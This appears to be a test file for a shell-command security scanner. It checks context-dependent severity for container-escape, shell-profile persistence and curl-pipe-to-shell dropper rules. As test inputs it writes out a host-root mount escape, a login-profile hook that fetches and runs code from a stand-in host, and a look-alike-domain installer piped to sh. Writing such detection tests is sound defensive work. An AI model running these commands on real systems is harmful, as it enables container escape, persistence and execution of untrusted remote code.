import { findingsOf, sh } from './rule-cases.helper.js';

const severityOf = (id: string, text: string) => findingsOf(text).find((f) => f.rule_id === id)?.severity;

describe('context-dependent severity', () => {
  it('should keep a node debugging session at MEDIUM but a host mount at HIGH', () => {
    expect(
      severityOf('SG-ESCAPE-003', sh('kubectl debug node/w1 -it --image=ubuntu\nchroot /host journalctl')),
    ).toBe('MEDIUM');
    expect(severityOf('SG-ESCAPE-003', sh('docker run -v /:/host alpine chroot /host sh'))).toBe('HIGH');
  });

  it("should rate a tool's own shell hook LOW and a fetched one HIGH", () => {
    const rc = (line: string) => sh(`echo '${line}' >> ~/.zprofile`);
    expect(severityOf('SG-PERSIST-002', rc('eval "$(/opt/homebrew/bin/brew shellenv)"'))).toBe('LOW');
    expect(severityOf('SG-PERSIST-002', rc('eval "$(curl -fsSL https://x.example.net/p)"'))).toBe('HIGH');
  });

  it('should rate well-known official installers MEDIUM and look-alike hosts HIGH', () => {
    expect(severityOf('SG-DROPPER-001', sh('curl -LsSf https://astral.sh/uv/install.sh | sh'))).toBe(
      'MEDIUM',
    );
    expect(
      severityOf('SG-DROPPER-001', sh('curl -LsSf https://astral-sh.example.net/uv/install.sh | sh')),
    ).toBe('HIGH');
  });
});
